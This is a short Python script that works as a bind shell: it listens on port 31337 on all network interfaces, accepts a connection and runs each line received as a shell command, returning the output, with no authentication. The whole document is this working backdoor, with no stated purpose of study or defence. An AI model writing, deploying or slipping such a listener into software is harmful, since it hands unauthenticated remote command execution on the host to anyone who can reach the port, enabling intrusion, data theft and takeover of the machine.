import socket
import subprocess

server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
server.bind(("0.0.0.0", 31337))
server.listen(1)
conn, addr = server.accept()
while True:
    line = conn.recv(1024)
    if not line:
        break
    output = subprocess.getoutput(line.decode())
    conn.send(output.encode())
